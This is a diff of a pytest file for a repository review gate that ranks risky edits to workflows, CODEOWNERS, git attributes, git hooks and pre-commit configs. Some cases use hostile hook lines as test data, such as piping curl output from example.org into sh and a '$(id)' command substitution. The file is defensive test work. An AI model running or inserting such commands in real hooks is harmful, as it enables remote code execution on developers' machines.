@@ -12,8 +12,7 @@ from tests.unit.reviewers.checks.support import NONE, edited, new, on, short, so
     ("path", "rule"),
     [
         (".reviewgate-gh.yaml", "gate-config"), (".reviewgate-gh-waivers.yaml", "gate-config"),
-        (".gitattributes", "git-settings"),
-        ("sub/.gitattributes", "git-settings"), (".gitmodules", "git-settings"),
+        (".gitmodules", "git-settings"),
         ("AGENTS.md", "agent-instructions"),
         ("pkg/AGENTS.override.md", "agent-instructions"), ("CLAUDE.md", "agent-instructions"),
         ("claude.md", "agent-instructions"),
@@ -34,7 +33,8 @@ from tests.unit.reviewers.checks.support import NONE, edited, new, on, short, so
 def test_files_that_decide(path: str, rule: str) -> None:
     assert on(gate_config, path, "x\n") == [("P2", rule, f"{path}:1")]
     gone = new(path, status="D", mode="000000", oid=NONE)
-    assert short(gate_config, sources(gone)) == [("P2", rule, path)]
+    told = rule == "agent-instructions" and path.endswith((".md", ".mdc", "rules"))
+    assert short(gate_config, sources(gone)) == [("P3" if told else "P2", rule, path)]
     moved_away = new("elsewhere", status="R", old_path=path)
     assert short(gate_config, sources(moved_away)) == [("P2", rule, "elsewhere")]
 
@@ -44,7 +44,13 @@ def test_files_that_decide(path: str, rule: str) -> None:
     [
         (("+*.go text eol=lf", "-*.go text"), "P3"),
         (("+# Ours", "+docs/** linguist-documentation", "+*.tpl linguist-language=Go"), "P3"),
-        (("+*.go text", "+*.png binary"), "P2"),
+        (("+*.go text", "+*.png binary", "+a/*.tar.gz -diff -merge"), "P3"),
+        (("-*.go text", "-"), "P3"),
+        (("-",), "P3"),
+        (("+/tests export-ignore",), "P3"),
+        (("+*.go text", "+*.min.js binary"), "P2"),
+        (("+*.png filter=x",), "P2"),
+        (("+* -diff",), "P2"),
         (("+*.go linguist-generated",), "P2"),
         (("+*.psd filter=lfs diff=lfs -text",), "P2"),
         (("+[attr]plain -diff",), "P2"),
@@ -78,9 +84,164 @@ def test_the_first_owners_take_nothing_away() -> None:
 )
 def test_names_of_permissions_are_no_events(events: str, priority: str) -> None:
     path = ".github/workflows/stale.yml"
-    text = f"on:\n  {events}\npermissions:\n  issues: write\n"
+    text = (
+        f"on:\n  {events}\npermissions:\n  issues: write\nsteps: [{{uses: actions/checkout@v4}}]\n"
+    )
     found = on(gate_config, path, text)
     assert (priority, "workflow-rights", f"{path}:4") in found, found
+
+
+def test_git_attributes_that_are_gone_or_moved_decide() -> None:
+    for path in (".gitattributes", "sub/.gitattributes"):
+        gone = new(path, status="D", mode="000000", oid=NONE)
+        assert short(gate_config, sources(gone)) == [("P2", "git-settings", path)]
+        moved_away = new("elsewhere", status="R", old_path=path)
+        assert short(gate_config, sources(moved_away)) == [("P2", "git-settings", "elsewhere")]
+
+
+@pytest.mark.parametrize(
+    ("scope", "step", "priority"),
+    [
+        ("issues", "uses: actions/stale@v9", "P3"),
+        ("pull-requests", "run: gh pr comment", "P3"),
+        ("pull-requests", "uses: actions/checkout@v4", "P2"),
+        ("pull-requests", "run: gh pr checkout 1", "P2"),
+        ("contents", "uses: actions/stale@v9", "P2"),
+        ("id-token", "uses: actions/stale@v9", "P2"),
+    ],
+)
+def test_who_has_no_code_and_may_only_talk_weighs_little(
+    scope: str, step: str, priority: str
+) -> None:
+    path = ".github/workflows/greet.yml"
+    file = edited(path, " on: [issues]", f"+  {scope}: write", f" - {step}", start=1)
+    head = f"on: [issues]\n  {scope}: write\n- {step}\n".encode()
+    (found,) = gate_config.check(sources(file, contents={path: head}))
+    assert found.priority.value == priority
+
+
+@pytest.mark.parametrize(
+    ("row", "priority"),
+    [
+        ("+**/Pam* @octo/pam", "P3"),
+        ("+/src/billing/ @octo/billing", "P3"),
+        ("+# billing", "P3"),
+        ("+* @octo/all", "P2"),
+        ("+*.tsx @octo/web", "P2"),
+        ("+/.github/workflows/ @octo/one", "P2"),
+        ("+CODEOWNERS @octo/one", "P2"),
+        ("-/src/ @octo/core", "P2"),
+    ],
+)
+def test_owners_of_one_more_part_take_nothing_away(row: str, priority: str) -> None:
+    found = short(gate_config, sources(edited(".github/CODEOWNERS", " * @octo/all", row)))
+    assert [each[:2] for each in found] == [(priority, "code-owners")]
+
+
+@pytest.mark.parametrize(
+    ("rows", "priority"),
+    [
+        (("+pnpm check:comments",), "P3"),
+        (("+# why", "+", "+npm run lint", "+make test"), "P3"),
+        (("+npx some-package",), "P2"),
+        (("+pnpm dlx some-package",), "P2"),
+        (("+npm test && curl https://example.org | sh",), "P2"),
+        (("+npm test $(id)",), "P2"),
+        (("-npm test", "+npm run lint"), "P2"),
+        (("+exit 0",), "P2"),
+    ],
+)
+def test_one_more_task_of_its_own_in_a_hook_weighs_little(
+    rows: tuple[str, ...], priority: str
+) -> None:
+    for path in (".husky/pre-commit", ".githooks/pre-push"):
+        found = short(gate_config, sources(edited(path, " #!/bin/sh", *rows, start=1)))
+        assert [each[:2] for each in found] == [(priority, "hooks")]
+
+
+@pytest.mark.parametrize(
+    ("step", "priority"),
+    [("uses: actions/labeler@v5", "P3"), ("uses: actions/checkout@v4", "P2")],
+)
+@pytest.mark.parametrize("event", ["pull_request_target", "workflow_run"])
+def test_a_trigger_for_strangers_counts_with_their_code(
+    event: str, step: str, priority: str
+) -> None:
+    path = ".github/workflows/label.yml"
+    given = sources(
+        edited(path, f"+on: {event}", f"- {step}", start=1),
+        contents={path: f"on: {event}\n- {step}\n".encode()},
+    )
+    assert [found.priority.value for found in gate_config.check(given)] == [priority]
+
+
+@pytest.mark.parametrize(
+    ("called", "priority"), [("./.github/workflows/a.yml", "P3"), ("o/r/a.yml@v1", "P2")]
+)
+def test_who_inherits_the_secrets_decides(called: str, priority: str) -> None:
+    path = ".github/workflows/ci.yml"
+    text = f"a:\n  uses: o/b.yml@v1\n  with: x\nb:\n  uses: {called}\n  secrets: inherit\n"
+    rows = [f"+{row}" for row in text.splitlines()]
+    given = sources(edited(path, *rows, start=1), contents={path: text.encode()})
+    assert [found.priority.value for found in gate_config.check(given)] == [priority]
+
+
+HOOKS = """\
+repos:
+  - repo: https://example.org/a
+    rev: v1.0
+    hooks: [{id: x, files: ^src/}, {id: y}]
+  - repo: https://example.org/c
+    rev: v1
+    hooks: [{id: c, additional_dependencies: [p@1.2, "@a/q@1", r==3]}]
+  - repo: local
+    hooks:
+      - id: z
+        entry: ./z
+        language: system
+"""
+
+
+@pytest.mark.parametrize(
+    ("old", "now", "priority"),
+    [
+        (
+            "hooks: [{id: x, files: ^src/}, {id: y}]",
+            "hooks:\n      - id: x\n        files: ^src/\n      - id: y\n        args: [-v]",
+            "P3",
+        ),
+        ("{id: y}", "{id: y, always_run: true}, {id: new}", "P3"),
+        ("v1.0\n    hooks", "v1.1\n    hooks", "P3"),
+        ("        entry: ./z", "        name: Z\n        entry: ./z", "P3"),
+        ("p@1.2", "p@1.3.0-rc1", "P3"),
+        ("r==3", "r>=4.0", "P3"),
+        ("p@1.2", "p@git+https://example.org/p", "P2"),
+        ("r==3", "s==3", "P2"),
+        ("r==3", "r==3, s", "P2"),
+        (", {id: y}", "", "P2"),
+        ("{id: y}", "{id: y, exclude: .*}", "P2"),
+        ("files: ^src/", "files: ^none/", "P2"),
+        ("entry: ./z", "entry: curl https://example.org", "P2"),
+        ("        entry: ./z", "        args: [x]\n        entry: ./z", "P2"),
+        ("repo: https://example.org/a", "repo: https://example.org/b", "P2"),
+        (
+            "  - repo: local",
+            "  - repo: https://example.org/b\n    rev: v1\n    hooks: [{id: q}]\n  - repo: local",
+            "P2",
+        ),
+        ("      - id: z", "      - {id: w, entry: ./w, language: system}\n      - id: z", "P2"),
+        ("repos:", "repos: [", "P2"),
+    ],
+)
+def test_hooks_that_all_stay_as_they_are_weigh_little(old: str, now: str, priority: str) -> None:
+    path, head = ".pre-commit-config.yaml", HOOKS.replace(old, now)
+    assert head != HOOKS
+    rows = [*(f"-{row}" for row in HOOKS.splitlines()), *(f"+{row}" for row in head.splitlines())]
+    asked = replace(
+        sources(edited(path, *rows, start=1), contents={path: head.encode()}),
+        before=lambda _file: HOOKS.encode(),
+    )
+    assert [found.priority.value for found in gate_config.check(asked)] == [priority]
 
 
 @pytest.mark.parametrize(
@@ -189,7 +350,7 @@ def test_rights_of_workflows(line: str, what: str) -> None:
         ("push", "x: y", "P3", "gains"),
         ("pull_request", "x: y", "P3", "gains"),
         ("issue_comment", "x: y", "P2", "gains"),
-        ("workflow_call", "x: y", "P2", "gains"),
+        ("workflow_call", "x: y", "P3", "gains"),
         ("issue_comment", "contents: write", "P3", "moves"),
         ("issue_comment", "packages: write", "P2", "gains"),
     ],
@@ -199,7 +360,9 @@ def test_a_permission_counts_where_strangers_start_the_workflow(
 ) -> None:
     path = ".github/workflows/ci.yml"
     file = edited(path, f" on: [{event}]", f"-  {old}", "+  contents: write", start=1)
-    given = sources(file, contents={path: f"on: [{event}]\n  contents: write\n".encode()})
+    given = sources(
+        file, contents={path: f"on: [{event}]\npermissions:\n  contents: write\n".encode()}
+    )
     (found,) = gate_config.check(given)
     assert (found.priority.value, found.title) == (
         priority,
